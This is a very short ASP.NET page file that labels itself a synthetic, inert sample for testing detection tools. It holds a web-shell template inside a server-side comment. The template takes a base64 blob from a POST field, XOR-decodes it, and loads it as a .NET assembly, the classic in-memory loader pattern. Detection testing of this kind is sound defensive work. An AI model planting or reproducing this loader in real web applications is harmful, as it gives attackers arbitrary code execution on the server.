<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% byte[] d = Convert.FromBase64String(Request.Form["d"]); for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ key[i % key.Length]); System.Reflection.Assembly.Load(d); %>
--%>
